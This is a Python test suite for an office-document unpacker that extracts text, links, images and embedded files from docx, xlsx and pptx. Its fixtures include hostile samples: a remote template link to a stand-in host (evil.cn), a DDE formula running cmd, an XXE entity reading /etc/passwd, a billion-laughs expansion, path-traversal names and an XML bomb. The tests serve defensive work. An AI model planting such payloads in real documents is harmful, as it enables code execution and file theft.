"""docx, xlsx, pptx: text, pictures, embedded files, outside targets, macros; hostile XML."""

from __future__ import annotations

import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st

from mingjian.domain.evidence import Evidence, EvidenceKind
from mingjian.intake.limits import Limits
from mingjian.intake.unpack import office
from mingjian.testing.unpacking import data_of, evidence, unpacked

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "application/rels"
WORDS = f"""<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>
<w:p><w:r><w:t>您的账户</w:t></w:r><w:r><w:t>异常</w:t></w:r></w:p>
<w:p><w:r><w:t>请访问 http://a.cn/x 处理</w:t></w:r></w:p>
<w:p><w:r><w:instrText> HYPERLINK "http://field.cn/" </w:instrText></w:r></w:p>
</w:body></w:document>"""
TARGETS = """<Relationships><Relationship Id="1" Type="http://x/attachedTemplate"
 Target="http://evil.cn/t.dotm" TargetMode="External"/><Relationship Id="2" Type="http://x/image"
 Target="media/image1.png"/></Relationships>"""


def zipped(members: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def item(data: bytes, format: str = "docx") -> Evidence:
    return evidence(data, EvidenceKind.DOCUMENT, format)


def test_word() -> None:
    data = zipped({
        "word/document.xml": WORDS,
        "word/footer1.xml": f"<w:ftr {W}><w:p><w:r><w:t>页脚</w:t></w:r></w:p></w:ftr>",
        "word/_rels/document.xml.rels": TARGETS,
        "word/media/image1.png": b"\x89PNG",
        "word/embeddings/oleObject1.bin": b"\xd0\xcf",
        "word/vbaProject.bin": b"macro",
        "docProps/thumbnail.jpeg": b"\xff\xd8",
    })  # fmt: skip
    parts, refusals = unpacked(office.unpack, item(data))
    assert data_of(parts[0]).decode() == "您的账户异常\n请访问 http://a.cn/x 处理\n页脚"
    found = [(part.derivation.step, data_of(part)) for part in parts[1:]]
    assert found == [
        ("link", b"http://a.cn/x"),
        ("link", b"http://field.cn/"),
        ("link", b"http://evil.cn/t.dotm"),
        ("inline-image", b"\x89PNG"),
        ("embedded-file", b"\xd0\xcf"),
        ("embedded-file", b"macro"),
        ("thumbnail", b"\xff\xd8"),
    ]
    assert parts[3].derivation.detail == "word/_rels/document.xml.rels, attachedTemplate"
    assert [refusal.what for refusal in refusals] == ["word/vbaProject.bin"]


def test_excel_rows_become_lines() -> None:
    shared = (
        "<sst><si><t>姓名</t></si>"
        "<si><r><t>张</t></r><r><t>三</t></r><rPh><t>zh</t></rPh></si></sst>"
    )
    sheet = (
        '<worksheet><sheetData><row><c r="A1" t="s"><v>0</v></c>'
        '<c r="C1" t="inlineStr"><is><t>电话</t></is></c></row>'
        '<row><c r="A2" t="s"><v>1</v></c><c r="B2"><f>cmd|\' /c calc\'!A0</f><v>7</v></c></row>'
        '<row><c t="s"><v>99999</v></c><c t="s"><v>x</v></c></row></sheetData></worksheet>'
    )
    data = zipped({"xl/sharedStrings.xml": shared, "xl/worksheets/sheet1.xml": sheet})
    (part,), refusals = unpacked(office.unpack, item(data, "xlsx"))
    assert data_of(part).decode() == "姓名\t\t电话\n张三\t7"
    assert part.name == "sheet1.txt"
    assert [refusal.what for refusal in refusals] == ["DDE"]


SLIDE = '<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:t>第{}页</a:t></a:p></p:sld>'


def test_slides_in_their_order() -> None:
    members: dict[str, str | bytes] = {
        f"ppt/slides/slide{n}.xml": SLIDE.format(n) for n in (10, 2, 1)
    }
    (part,), _ = unpacked(office.unpack, item(zipped(members), "pptx"))
    assert data_of(part).decode() == "第1页\n第2页\n第10页"


def test_billion_laughs_and_outside_entities_are_refused() -> None:
    for inside in (
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
    ):
        words = f"<!DOCTYPE w [{inside}]><w:document {W}><w:t>&a;</w:t></w:document>"
        parts, (refusal,) = unpacked(office.unpack, item(zipped({"word/document.xml": words})))
        assert not parts
        assert "entit" in refusal.why.en


def test_names_that_climb_out_stay_names() -> None:
    data = zipped({"../../word/media/x.png": b"1", "word/media/../../../etc/x": b"2",
                   "word/document.xml": WORDS})  # fmt: skip
    parts, _ = unpacked(office.unpack, item(data))
    assert [part.derivation.step for part in parts] == ["text-layer", "link", "link"]


def test_xml_bomb_meets_the_budget() -> None:
    words = f"<w:document {W}><w:t>" + "A" * (40 << 20) + "</w:t></w:document>"
    _, refusals = unpacked(office.unpack, item(zipped({"word/document.xml": words})))
    assert all("bomb" in refusal.why.en for refusal in refusals)
    assert refusals


def test_more_text_than_the_limit_is_said() -> None:
    words = f"<w:document {W}><w:t>" + "A" * 5000 + "</w:t></w:document>"
    limits = Limits(text_bytes=1000)
    parts, refusals = unpacked(office.unpack, item(zipped({"word/document.xml": words})), limits)
    assert data_of(parts[0]) == b"A" * 1000
    assert "more text" in refusals[0].why.en


def test_broken_xml_keeps_what_came_before() -> None:
    parts, refusals = unpacked(office.unpack, item(zipped({"word/document.xml": WORDS[:300]})))
    assert data_of(parts[0]).decode().startswith("您的账户异常")
    assert refusals


def test_truncated_file_is_read_by_local_headers() -> None:
    data = zipped({"word/document.xml": WORDS, "word/media/a.png": b"\x89PNG" * 100})
    parts, _ = unpacked(office.unpack, item(data[:-60]))
    assert data_of(parts[0]).decode().startswith("您的账户异常")


@given(st.binary(max_size=300), st.sampled_from(["docx", "xlsx", "pptx"]))
def test_any_bytes(data: bytes, format: str) -> None:
    unpacked(office.unpack, item(b"PK\x03\x04" + data, format))
    name = {
        "docx": "word/document.xml",
        "xlsx": "xl/worksheets/s.xml",
        "pptx": "ppt/slides/slide1.xml",
    }
    unpacked(office.unpack, item(zipped({name[format]: b"<a>" + data, "a.rels": data}), format))


@given(st.data())
def test_damaged_bytes(data: st.DataObject) -> None:
    good = bytearray(zipped({"word/document.xml": WORDS, "word/_rels/x.rels": TARGETS}))
    for _ in range(data.draw(st.integers(1, 10))):
        good[data.draw(st.integers(0, len(good) - 1))] = data.draw(st.integers(0, 255))
    unpacked(office.unpack, item(bytes(good)))
